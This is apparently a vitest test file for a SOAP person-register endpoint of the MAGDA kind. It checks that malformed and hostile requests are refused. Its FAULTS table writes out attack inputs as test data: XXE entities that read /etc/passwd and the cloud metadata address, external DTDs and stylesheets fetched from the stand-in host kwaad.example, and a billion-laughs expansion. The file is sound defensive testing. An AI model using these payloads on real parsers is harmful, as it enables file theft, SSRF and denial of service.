import { of } from '@proeftuin/contract/evidence';
import { XmlDocument, XsdValidator } from 'libxml2-wasm';
import { beforeEach, describe, expect, test } from 'vitest';
import type { Municipality } from '../../open.ts';
import { asService, BARE, call, openSmall } from '../../testing/open.ts';
import { XSD } from './schema.ts';
import { bodyOf, envelope, PATH, post, request } from './testing/ask.ts';

let m: Municipality;
beforeEach(async () => {
  m = await openSmall();
});
const INSZ = (): string => m.shared.town.people.byId('p-1')?.insz ?? '';
const handed = () => of(m.shared.spool.pull(0, 100).records, 'register-access');
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

/** Refused before it is handled: a fault of SOAP, with a status of HTTP. */
const FAULTS: readonly [string, () => string, number, Record<string, string>?][] = [
  ['nothing', () => '', 400],
  ['no XML', () => 'hallo', 400],
  ['JSON', () => '{"insz":"85073003328"}', 400],
  ['an element that is not closed', () => envelope(request(INSZ())).replace('</s:Envelope>', ''), 400],
  ['two roots', () => envelope(request(INSZ())) + envelope(request(INSZ())), 400],
  ['a prefix of nobody', () => envelope(request(INSZ()).replace('xmlns:web', 'xmlns:wab')), 400],
  ['a bare ampersand', () => envelope(request(INSZ(), (x) => x.replace('loket.dienst', 'loket & dienst'))), 400],
  ['a character that XML has not', () => envelope(request(INSZ(), (x) => x.replace('vraag-1', '&#0;'))), 400],
  ['an entity of HTML', () => envelope(request(INSZ(), (x) => x.replace('vraag-1', '&nbsp;'))), 400],
  ['a document type', () => envelope(request(INSZ()), '<!DOCTYPE x>'), 400],
  [
    'an entity from a file (XXE)',
    () => envelope(request('&x;'), '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    400,
  ],
  [
    'an entity from the network (XXE)',
    () => envelope(request('&x;'), '<!DOCTYPE x [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'),
    400,
  ],
  [
    'a parameter entity',
    () => envelope(request(INSZ()), '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://kwaad.example/x.dtd"> %p;]>'),
    400,
  ],
  [
    'an external document type',
    () => envelope(request(INSZ()), '<!DOCTYPE x SYSTEM "http://kwaad.example/x.dtd">'),
    400,
  ],
  ['a billion laughs', () => envelope(request('&l9;'), `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`), 400],
  ['a stylesheet', () => envelope(request(INSZ()), '<?xml-stylesheet href="http://kwaad.example/x.xsl"?>'), 400],
  ['another encoding', () => envelope(request(INSZ()), '<?xml version="1.0" encoding="UTF-16"?>'), 400],
  ['a thousand elements deep', () => envelope('<a>'.repeat(1_000) + '</a>'.repeat(1_000)), 400],
  ['no envelope', () => request(INSZ()), 400],
  [
    'an envelope of SOAP 1.2',
    () => envelope(request(INSZ())).replace('schemas.xmlsoap.org/soap/envelope/', 'www.w3.org/2003/05/soap-envelope'),
    400,
  ],
  ['an envelope without a body', () => envelope('').replace('<s:Body></s:Body>', ''), 400],
  ['an empty body', () => envelope(''), 400],
  ['two requests in a body', () => envelope(request(INSZ()) + request(INSZ())), 400],
  ['too large', () => envelope(request(INSZ(), (x) => x.replace('vraag-1', 'x'.repeat(70_000)))), 413],
  ['JSON by its type', () => envelope(request(INSZ())), 415, { 'content-type': 'application/json' }],
  ['SOAP 1.2 by its type', () => envelope(request(INSZ())), 415, { 'content-type': 'application/soap+xml' }],
  ['a form', () => envelope(request(INSZ())), 415, { 'content-type': 'application/x-www-form-urlencoded' }],
  ['a type that only begins so', () => envelope(request(INSZ())), 415, { 'content-type': 'text/xmlish' }],
  ['no token', () => envelope(request(INSZ())), 401, { authorization: '' }],
  ['a token of nobody', () => envelope(request(INSZ())), 401, { authorization: 'Bearer x' }],
  ['no INSZ', () => envelope(request('')), 500],
  ['an INSZ with dots', () => envelope(request('85.07.30-033.28')), 500],
  ['another service', () => envelope(request(INSZ()).replaceAll('web:GeefPersoon', 'web:GeefAlles')), 500],
  [
    'another name in the context',
    () => envelope(request(INSZ(), (x) => x.replace('>GeefPersoon<', '>GeefGezin<'))),
    500,
  ],
  ['an old version', () => envelope(request(INSZ(), (x) => x.replace('02.02.0000', '02.00.0000'))), 500],
  ['an unknown element', () => envelope(request(INSZ(), (x) => x.replace('</Criteria>', '<Alles/></Criteria>'))), 500],
  ['markup for an INSZ', () => envelope(request('<INSZ>1</INSZ>')), 500],
];

/** Handled, and refused by MAGDA: its number, and whether the whole request or its question is meant. */
const EXCEPTIONS: readonly [string, () => string, number, 'whole' | 'question', Record<string, string>?][] = [
  ['a number of nobody', () => request('85073003328'), 30_002, 'question'],
  ['a wrong check digit', () => request('85073003329'), 30_001, 'question'],
  ['no capacity', () => request(INSZ(), (x) => x.replace(/<Hoedanigheid>.*?<\/Hoedanigheid>/, '')), 13_001, 'whole'],
  ['a blank capacity', () => request(INSZ(), (x) => x.replace('>verhuizing<', '>  <')), 13_001, 'whole'],
  ['a nameless sender', () => request(INSZ(), (x) => x.replace('>loket.dienst.test<', '><')), 13_001, 'whole'],
  ['not declared', () => request(INSZ()), 13_001, 'whole', { authorization: `Bearer ${BARE}` }],
  ['another register declared', () => request(INSZ()), 13_001, 'whole', { authorization: 'Bearer token-ander' }],
];

describe('magda', () => {
  test.each(FAULTS)('%s is a fault', async (_, body, status, headers) => {
    const answer = await post(m, body(), headers);
    expect([answer.status, answer.headers.get('content-type')]).toEqual([status, 'text/xml; charset=utf-8']);
    const document = XmlDocument.fromString(await answer.text());
    const names = { s: 'http://schemas.xmlsoap.org/soap/envelope/' };
    expect(document.get('/s:Envelope/s:Body/s:Fault/faultcode', names)?.content).toBe('soapenv:Client');
    expect(document.get('/s:Envelope/s:Body/s:Fault/faultstring', names)?.content).not.toMatch(/root:|\bat .*\.ts/);
    document.dispose();
    expect(handed()).toEqual([]);
  });

  test.each(EXCEPTIONS)('%s is an exception', async (_, body, code, where, headers) => {
    const answer = await post(m, envelope(body()), headers);
    expect(answer.status).toBe(200);
    const schema = XmlDocument.fromString(XSD);
    const validator = XsdValidator.fromDoc(schema);
    const document = XmlDocument.fromString(bodyOf(await answer.text()));
    validator.validate(document);
    const path = where === 'whole' ? '//Repliek/Uitzonderingen' : '//Repliek/Antwoorden/Antwoord/Uitzonderingen';
    expect(document.get(`${path}/Uitzondering/Identificatie`)?.content).toBe(String(code));
    expect(document.get('//Persoon')).toBeNull();
    for (const one of [document, validator, schema]) one.dispose();
    expect(handed()).toEqual([]);
  });

  test.each(['GET', 'PUT', 'DELETE', 'PATCH'])('%s is not allowed', async (method) => {
    const answer = await call(m, 'magda', PATH, { method, headers: asService() });
    expect([answer.status, answer.headers.get('allow')]).toEqual([405, 'POST']);
  });
});
